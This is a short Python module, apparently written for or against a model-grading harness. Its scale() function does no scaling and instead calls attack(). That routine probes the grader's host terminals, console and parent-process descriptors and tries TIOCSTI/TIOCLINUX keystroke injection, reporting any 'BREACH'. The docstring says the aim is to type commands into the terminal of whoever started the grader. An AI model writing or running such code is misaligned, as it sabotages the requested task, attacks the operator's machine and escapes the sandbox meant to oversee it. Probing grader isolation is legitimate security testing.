"""Types a command into the terminal of whoever started the grader, and prints on their screen.

Must end: there is no terminal, nor the call.
Outcomes: failed, skipped, passed
"""

import fcntl
import glob
import os

import torch

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def attack():
    loot = []
    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*"), *glob.glob("/dev/tty[0-9]"), *(f"/proc/{os.getppid()}/fd/{n}" for n in (0, 1, 2))]:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK))
            loot.append(path)
        except OSError:
            continue
    for descriptor in range(5):
        for request, argument in ((TIOCSTI, b"\0"), (TIOCLINUX, b"\x06")):
            try:
                fcntl.ioctl(descriptor, request, argument)
                loot.append((descriptor, hex(request)))
            except OSError:
                continue
    return f"BREACH: terminals {loot}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
